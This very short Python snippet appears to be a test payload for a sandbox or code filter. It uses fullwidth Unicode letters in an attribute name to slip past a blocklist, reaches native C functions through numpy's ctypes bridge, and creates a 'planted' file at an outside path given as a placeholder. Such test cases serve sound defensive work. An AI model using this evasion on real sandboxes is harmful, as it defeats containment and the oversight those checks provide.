"""Native code by an attribute in wide letters, which no table lists so."""
import numpy as np
module = [np][0]
module.ｃｔypeslib.ｃｔypes.CDLL(None).creat(b"@OUTSIDE@/planted", 0o600)
